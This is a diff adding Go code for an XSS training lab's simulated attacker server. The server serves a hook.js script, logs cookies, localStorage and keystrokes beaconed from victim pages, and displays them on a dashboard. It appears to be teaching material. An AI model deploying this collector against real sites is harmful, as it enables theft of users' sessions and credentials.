@@ -0,0 +1,93 @@
+package xssinject
+
+import (
+	"embed"
+	"net/http"
+	"sync"
+	"time"
+
+	"shared/layout"
+
+	"github.com/gin-gonic/gin"
+)
+
+//go:embed attacker
+var attackerFiles embed.FS
+
+// stolenEntry is one piece of data sent to the attacker collector
+type stolenEntry struct {
+	Time       time.Time
+	Kind       string // cookie, localStorage, keys, ...
+	Data       string
+	Page       string
+	RemoteAddr string
+}
+
+// maxStolenEntries bounds the in-memory collector log
+const maxStolenEntries = 500
+
+var (
+	stolenMu sync.Mutex
+	stolen   []stolenEntry // newest first
+)
+
+// RegisterAttackerRoutes mounts the attacker collector on rg. It runs on
+// its own port, so it is a different origin from the lab, like a real
+// attacker's server.
+func RegisterAttackerRoutes(rg *gin.RouterGroup) {
+	layout.Mount(rg)
+
+	rg.GET("/hook.js", func(c *gin.Context) {
+		c.FileFromFS("attacker/hook.js", http.FS(attackerFiles))
+	})
+
+	// Beacon endpoint; image requests are not subject to CORS
+	rg.GET("/c", func(c *gin.Context) {
+		collect(stolenEntry{
+			Time:       time.Now(),
+			Kind:       c.Query("kind"),
+			Data:       c.Query("data"),
+			Page:       c.Query("page"),
+			RemoteAddr: c.RemoteIP(),
+		})
+		c.Status(http.StatusNoContent)
+	})
+
+	rg.GET("/", func(c *gin.Context) {
+		stolenMu.Lock()
+		entries := append([]stolenEntry(nil), stolen...)
+		stolenMu.Unlock()
+		pages.Render(c, http.StatusOK, "attacker", gin.H{
+			"Entries": entries,
+			"Origin":  "http://" + c.Request.Host,
+		})
+	})
+
+	rg.POST("/clear", func(c *gin.Context) {
+		stolenMu.Lock()
+		stolen = nil
+		stolenMu.Unlock()
+		c.Redirect(http.StatusFound, layout.BasePath(c))
+	})
+}
+
+// collect adds an entry to the collector log
+func collect(entry stolenEntry) {
+	entry.Kind = truncate(entry.Kind, 64)
+	entry.Data = truncate(entry.Data, 4096)
+	entry.Page = truncate(entry.Page, 512)
+
+	stolenMu.Lock()
+	defer stolenMu.Unlock()
+	stolen = append([]stolenEntry{entry}, stolen...)
+	if len(stolen) > maxStolenEntries {
+		stolen = stolen[:maxStolenEntries]
+	}
+}
+
+func truncate(s string, n int) string {
+	if len(s) > n {
+		return s[:n]
+	}
+	return s
+}